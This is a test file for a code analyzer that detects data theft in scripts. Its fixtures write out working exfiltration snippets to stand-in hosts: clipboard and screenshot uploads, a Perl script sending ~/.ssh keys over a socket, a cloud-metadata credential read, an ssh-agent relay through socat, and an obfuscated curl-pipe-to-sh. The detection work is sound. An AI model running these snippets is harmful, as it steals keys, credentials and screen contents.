import { describe, expect, it } from 'vitest';
import { captureCommand, capturesIn } from '../../../src/analysis/code/captures.js';
import { factsOf, ofKind } from '../../support/code.js';

/**
 * What the user copied or sees (src/analysis/code/captures.ts) as values in each language, raw socket
 * writes in the script languages (scripting/socket-sends.ts), the instance credentials a metadata request
 * reads (collector), and the ssh-agent socket relayed by socat or `ssh -R`.
 */

describe('clipboard and screen captures', () => {
  it('are found by their platform APIs and programs', () => {
    expect(capturesIn('let s = NSPasteboard.general.string(forType: .string)', 'lib')).toHaveLength(1);
    expect(capturesIn('NSPasteboard.general.setString(x, forType: .string)', 'lib')).toHaveLength(0);
    expect(capturesIn('local f = hs.screen.mainScreen():snapshot()', 'lib')[0]?.cls).toBe('screen-capture');
    expect(capturesIn('var t = Clipboard.GetText();', 'lib')).toHaveLength(1);
    expect(captureCommand('pbpaste', [])).toEqual({ cls: 'clipboard' });
    expect(captureCommand('xclip', ['-selection', 'clipboard', '-o'])).toEqual({ cls: 'clipboard' });
    expect(captureCommand('xclip', ['-selection', 'clipboard', '-in'])).toBeUndefined();
    expect(captureCommand('screencapture', ['-x', '/tmp/a.png'])).toEqual({
      cls: 'screen-capture',
      file: '/tmp/a.png',
    });
    expect(captureCommand('screencapture', ['-c'])).toBeUndefined();
  });

  it('flow into a Swift request body as a secret-like value with no read', async () => {
    const r = await factsOf(
      'scripting',
      [
        'import AppKit',
        'guard let copied = NSPasteboard.general.string(forType: .string) else { exit(0) }',
        'var req = URLRequest(url: URL(string: "https://sync.pasteboard-cloud.dev/v1")!)',
        'req.httpMethod = "POST"',
        'req.httpBody = copied.data(using: .utf8)',
        'URLSession.shared.dataTask(with: req).resume()',
      ].join('\n'),
    );
    expect(ofKind(r, 'read')).toEqual([]);
    expect(ofKind(r, 'send')).toMatchObject([{ data: { secret: 'clipboard' } }]);
  });

  it('a screen image a shell command saves is what a later upload of the file sends', async () => {
    const r = await factsOf(
      'shell',
      'scrot /tmp/s.png\ncurl -s -F "f=@/tmp/s.png" https://frames.desk-log.dev/up\n',
    );
    expect(ofKind(r, 'send')).toMatchObject([{ data: { secret: 'screen-capture' } }]);
  });

  it('writing the clipboard reads nothing', async () => {
    const r = await factsOf(
      'shell',
      'printf %s "$msg" | pbcopy\nxclip -selection clipboard -in < notes.txt\n',
    );
    expect(ofKind(r, 'send')).toEqual([]);
  });
});

describe('raw sockets in the script languages', () => {
  it('Perl: a key slurped from a glob over ~/.ssh, printed to an IO::Socket', async () => {
    const r = await factsOf(
      'scripting',
      [
        'use strict;',
        'use IO::Socket::INET;',
        'my $dir = File::Spec->catdir($ENV{HOME}, ".ssh");',
        'my @keys = glob("$dir/id_*");',
        'my %out;',
        'for my $k (@keys) {',
        "    open my $fh, '<', $k or next;",
        '    $out{$k} = <$fh>;',
        '}',
        "my $s = IO::Socket::INET->new(PeerAddr => 'drop.keyvault-sync.net', PeerPort => 443);",
        'print $s join("\\n", values %out);',
      ].join('\n'),
    );
    expect(ofKind(r, 'read')).toMatchObject([{ secret: 'ssh-key' }]);
    expect(ofKind(r, 'send')).toMatchObject([
      { channel: 'socket', endpoint: { host: 'drop.keyvault-sync.net' }, data: { secret: 'ssh-key' } },
    ]);
  });

  it('a socket to localhost or a literal payload is no send of local data', async () => {
    const r = await factsOf(
      'scripting',
      [
        'use IO::Socket::INET;',
        "my $s = IO::Socket::INET->new(PeerAddr => 'example.org', PeerPort => 80);",
        'print $s "GET / HTTP/1.0\\r\\n\\r\\n";',
      ].join('\n'),
    );
    expect(ofKind(r, 'send')).toEqual([]);
  });
});

describe('instance credentials and agent sockets', () => {
  it('a request for role credentials at any spelling of the metadata host reads them', async () => {
    const r = await factsOf(
      'shell',
      'curl -s http://2852039166/latest/meta-data/iam/security-credentials/builder\ncurl -s http://2852039166/latest/meta-data/placement/region\n',
    );
    expect(ofKind(r, 'read')).toMatchObject([{ secret: 'cloud-metadata' }]);
  });

  it('socat joining the agent socket to a remote address sends the agent', async () => {
    const r = await factsOf('shell', 'socat TCP:relay.pairs-hub.dev:7000 UNIX-CONNECT:$SSH_AUTH_SOCK\n');
    expect(ofKind(r, 'send')).toMatchObject([{ channel: 'socket', data: { secret: 'ssh-agent' } }]);
  });

  it('a local port forward carries no agent', async () => {
    const r = await factsOf('shell', 'socat TCP-LISTEN:8080,fork TCP:127.0.0.1:3000\n');
    expect(ofKind(r, 'send')).toEqual([]);
  });
});

describe('bash transformations', () => {
  it('${x@E} decodes escapes into the command it spells', async () => {
    const r = await factsOf(
      'shell',
      'd=\'\\x63\\x75\\x72\\x6c\'\n"${d@E}" -fsSL https://x.tools-mirror.dev/i | sh\n',
    );
    expect(ofKind(r, 'execute')).toMatchObject([{ code: { taints: ['download'] } }]);
  });
});
